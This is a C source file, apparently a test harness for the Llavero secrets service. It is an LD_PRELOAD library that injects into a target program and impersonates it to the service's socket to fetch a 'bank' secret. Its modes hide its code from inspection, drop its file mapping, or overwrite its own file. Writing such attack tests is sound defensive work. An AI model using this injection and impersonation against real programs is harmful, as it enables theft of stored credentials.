// SPDX-License-Identifier: Apache-2.0
// SPDX-FileCopyrightText: 2026 The Llavero project authors

// A library that the dynamic linker puts into the victim (LD_PRELOAD), and that talks in its name.
// By the environment:
//
//     ATTACK_PROGRAM   only in this program
//     ATTACK_SOCKET, ATTACK_HOW
//     ATTACK_WAY   plain       as any library
//                  hide        its code isn't executable while anybody could look
//                  copy        has its pages to itself and puts the bytes of ATTACK_BYTES into its
//                              own file, ATTACK_FILE
//                  anonymous   as hide, and no mapping is of its file any more
//                  plugin      is loaded later: uses the connection that the program has

#include "self.h"

#include <fcntl.h>

static void overwrite(const char *target, const char *source) {
    static char bytes[1 << 20];
    int from = open(source, O_RDONLY | O_CLOEXEC);
    int to = open(target, O_WRONLY | O_CLOEXEC);
    ssize_t count = read(from, bytes, sizeof bytes);
    if (from < 0 || to < 0 || count <= 0 || count == sizeof bytes) fail(source);
    if (pwrite(to, bytes, count, 0) != count || ftruncate(to, count)) fail(target);
    close(from);
    close(to);
}

// The first connection to the service's socket.
static int existing_connection(const char *path) {
    for (int fd = 3; fd < 256; fd++) {
        struct sockaddr_un name = {0};
        socklen_t size = sizeof name;
        if (getpeername(fd, (struct sockaddr *)&name, &size) == 0 && !strcmp(name.sun_path, path))
            return fd;
    }
    fail("connection");
    return -1;
}

__attribute__((constructor)) static void attack(void) {
    const char *program = getenv("ATTACK_PROGRAM"), *path = getenv("ATTACK_SOCKET");
    const char *how = getenv("ATTACK_HOW"), *way = getenv("ATTACK_WAY");
    char seen[4096] = {0};
    if (!program || !path || !how || !way) return;
    if (readlink("/proc/self/exe", seen, sizeof seen - 1) < 0 || strcmp(seen, program)) return;
    if (!strcmp(way, "plugin")) {
        static struct frame find, reply;
        find = find_frame("bank");
        if (!request(existing_connection(path), NULL, &find, &reply)) say("closed");
        else say_found(&reply);
        return;
    }
    if (!strcmp(way, "hide")) {
        find_own_mappings();
        run_steps = run_steps_hidden;
    } else if (!strcmp(way, "anonymous")) {
        become_anonymous();
        run_steps = run_steps_hidden;
    } else if (!strcmp(way, "copy")) {
        copy_own_pages();
        overwrite(getenv("ATTACK_FILE"), getenv("ATTACK_BYTES"));
    }
    talk(path, how);
    _exit(0);
}
